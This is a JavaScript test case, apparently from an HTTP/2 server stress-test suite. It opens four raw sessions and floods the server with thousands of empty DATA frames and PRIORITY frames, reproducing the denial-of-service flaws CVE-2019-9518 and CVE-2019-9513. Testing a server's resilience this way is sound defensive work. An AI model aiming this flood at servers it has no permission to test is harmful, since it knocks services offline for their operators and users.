import { connectFrame, h2Frame, RawSession, TYPE } from '../../lib/http2-frames.mjs';

const empty = h2Frame(TYPE.data, 0, 1);
const priority = h2Frame(TYPE.priority, 0, 1, Buffer.from([0, 0, 0, 3, 16]));
const many = (bytes) => Buffer.concat(Array.from({ length: 1_000 }, () => bytes));
const floods = [many(empty), many(priority)];

export const row = {
  title: '4 sessions flood DATA without a byte and PRIORITY (CVE-2019-9518, -9513)',
  over: 'http2',
  peak: 20,
  async attack({ port, ends, until, server, atMost }) {
    const { connections } = await server();
    const sessions = Array.from({ length: 4 }, () => new RawSession(port));
    for (const session of sessions) session.write(connectFrame(1));
    const open = await until(server, (now) => now.connections >= connections + 4);
    atMost('not let in', connections + 4 - open.connections, 0);
    await Promise.all(
      sessions.map((session, index) => session.flood(() => floods[index % 2], ends - 500)),
    );
    for (const session of sessions) session.socket.destroy();
  },
};
